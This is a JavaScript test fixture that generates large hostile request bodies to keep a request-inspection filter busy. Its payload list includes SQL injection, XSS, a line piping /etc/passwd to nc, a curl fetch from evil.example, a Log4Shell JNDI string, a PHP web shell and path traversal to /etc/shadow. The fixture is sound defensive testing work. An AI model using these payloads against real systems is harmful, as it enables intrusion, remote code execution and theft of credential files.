// Bodies of 128 KiB that are made to keep an inspection busy: `type` and `body` by what they are.

const LENGTH = 128 * 1024;

const attacks = [
  "' or 1=1 -- ",
  'union select password from users ',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '; cat /etc/passwd | nc 10.0.0.1 80 ',
  '$(curl http://evil.example/x.sh)',
  '../../../../etc/shadow',
  '${jndi:ldap://evil.example/a}',
  '<?php system($_GET["c"]); ?>',
  'javascript:eval(atob("YWxlcnQoMSk="))',
  'sleep(10)#',
  '{{7*7}}',
];

const units = {
  'one letter': 'a',
  blanks: ' ',
  quotes: '\'"',
  'digits and commas': '1,',
  'opened tags': '<a ',
  escapes: '%25',
  'double escapes': '%2525u0041',
  'character references': '&#x3c;&lt;',
  backslashes: '\\x41\\u0041\\',
  comments: '/**/--#',
  climbs: '/../a/./',
  base64: 'PHNjcmlwdD4=',
  calls: 'a(b(c',
  'words of SQL': 'select from where group by having order ',
  'dots and equals': '=.=;',
  lines: 'a: b\r\n',
  'signs of the shell': '|&;`$( ',
};

const FORM = 'application/x-www-form-urlencoded';
const PART = '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n';

export function hostileBodies() {
  const field = (text) => ({ type: FORM, body: `a=${text.replace(/[&+]/g, escaped)}`.slice(0, LENGTH) });
  return {
    'many attacks': field(mixOf(attacks)),
    'random printable bytes': field(randomText(0x20, 0x7f)),
    'random high bytes': field(randomText(0x80, 0x100)),
    ...Object.fromEntries(Object.entries(units).map(([name, unit]) => [name, field(filled(unit))])),
    'a thousand arguments': { type: FORM, body: filled(`name=${'v'.repeat(120)}&`) },
    '65,000 elements of JSON': { type: 'application/json', body: `[${'1,'.repeat(65_000)}1]` },
    'attacks in JSON': {
      type: 'application/json',
      body: JSON.stringify(Array.from({ length: 900 }, (_, at) => attacks[at % attacks.length])),
    },
    'attributes of XML': { type: 'application/xml', body: `<a>${'<b c="1 or 1=1" d="x"/>'.repeat(5000)}</a>` },
    'parts of a form': { type: 'multipart/form-data; boundary=b', body: `${PART.repeat(120)}--b--\r\n` },
  };
}

const filled = (unit) => unit.repeat(Math.ceil(LENGTH / unit.length)).slice(0, LENGTH);
const escaped = (byte) => `%${byte.charCodeAt(0).toString(16)}`;

/** Numbers that are the same in each run. */
function randomNumbers(seed) {
  let state = seed;
  return () => (state = (Math.imul(state, 1_103_515_245) + 12_345) & 0x7fffffff) / 0x80000000;
}

function mixOf(texts) {
  const random = randomNumbers(11);
  let text = '';
  while (text.length < LENGTH) text += texts[Math.floor(random() * texts.length)];
  return text.slice(0, LENGTH);
}

function randomText(from, to) {
  const random = randomNumbers(7);
  return Array.from({ length: LENGTH }, () => String.fromCharCode(from + Math.floor(random() * (to - from)))).join('');
}
